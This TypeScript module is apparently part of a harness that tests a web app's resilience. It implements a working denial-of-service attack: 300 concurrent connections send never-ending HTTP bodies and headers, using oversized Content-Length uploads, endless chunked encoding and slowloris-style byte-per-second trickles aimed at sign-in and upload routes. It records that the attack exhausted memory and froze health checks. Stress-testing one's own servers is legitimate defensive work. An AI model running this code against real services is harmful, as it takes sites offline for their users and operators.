// Bodies that never end, of every kind: said to be 9.9 MB, to a page and, by a member, to where documents go; without a length; a byte a
// second; and heads that don't end either.
import type { Socket } from "node:net";
import type { Attack, Target } from "./attack";
import { openLines } from "./lines";

const lines = 300;
const long = Buffer.alloc(9_900_000, "a");
const piece = `10000\r\n${"a".repeat(65_536)}\r\n`;

export const bodies: Attack = {
  name: "bodies",
  what: `${lines} requests at once whose bodies or heads never end`,
  before: "memory + 1,242 MB a minute after, health never answered, none of 300 connections ended",
  begin,
};

async function begin(target: Target) {
  const { cookie } = await target.createMember();
  const own = [`Host: ${new URL(target.url).host}`, `Origin: ${target.url}`, `Cookie: ${cookie}`];
  const post = (path: string, ...headers: string[]) =>
    [`POST ${path} HTTP/1.1`, ...own, ...headers, "\r\n"].join("\r\n");
  const length = `Content-Length: ${long.length + 1}`;
  const kinds: ((socket: Socket) => void)[] = [
    (socket) => socket.write(post("/anywhere", length)) && socket.write(long),
    (socket) => socket.write(post("/questions/import/upload?name=a.md", length)) && socket.write(long),
    (socket) => socket.write(post("/sign-in", "Transfer-Encoding: chunked") + piece.repeat(20)),
    (socket) => trickle(socket, post("/sign-in", "Content-Length: 16000")),
    (socket) => trickle(socket, "GET / HTTP/1.1\r\nX-Endless: "),
  ];
  const open = openLines(target, {
    count: lines,
    harm: (socket, index) => kinds[index % kinds.length]?.(socket),
  });
  return { stop: async () => open.stop() };
}

function trickle(socket: Socket, begun: string): void {
  socket.write(begun);
  const drops = setInterval(() => socket.write("a"), 1_000);
  socket.once("close", () => clearInterval(drops));
}
